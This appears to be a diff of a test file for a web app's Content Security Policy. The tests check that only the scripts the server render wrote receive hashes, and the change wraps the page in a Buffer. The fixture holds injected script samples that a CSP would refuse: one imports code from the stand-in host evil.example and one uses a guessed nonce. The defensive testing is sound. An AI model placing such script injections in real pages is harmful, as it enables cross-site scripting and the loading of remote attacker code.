@@ -43,8 +43,8 @@ test("Only the scripts the render wrote are hashed: a script inside content, eve
     '<script type="module" async="">import("https://evil.example/x.js")</script>',
     '<script nonce="guessed">alert(1)</script>',
   ];
-  const deferred = deferModuleScripts(renderedPage(nonce, `<p>Hello</p>${injected.join("")}`), nonce, "");
-  const { html, hashes } = hashOwnScripts(deferred.html, nonce, deferred.created);
+  const deferred = deferModuleScripts(Buffer.from(renderedPage(nonce, `<p>Hello</p>${injected.join("")}`)), nonce, "");
+  const { html, hashes } = hashOwnScripts(deferred.html.toString(), nonce, deferred.created);
   const csp = hashedDocumentCsp(hashes);
 
   // The theme snippet, React Router's context, the boot script, and the module script it adds.
@@ -60,8 +60,8 @@ test("Only the scripts the render wrote are hashed: a script inside content, eve
 
 test("A page whose scripts all came from the render runs every one of them under its hashes", () => {
   const nonce = createNonce();
-  const deferred = deferModuleScripts(renderedPage(nonce, "<p>Only words</p>"), nonce, "");
-  const { html, hashes } = hashOwnScripts(deferred.html, nonce, deferred.created);
+  const deferred = deferModuleScripts(Buffer.from(renderedPage(nonce, "<p>Only words</p>")), nonce, "");
+  const { html, hashes } = hashOwnScripts(deferred.html.toString(), nonce, deferred.created);
   expect(refusedScripts(html, hashedDocumentCsp(hashes))).toEqual([]);
   // The same script twice needs its hash once.
   const twice = hashOwnScripts(`<script nonce="${nonce}">a()</script><script nonce="${nonce}">a()</script>`, nonce);
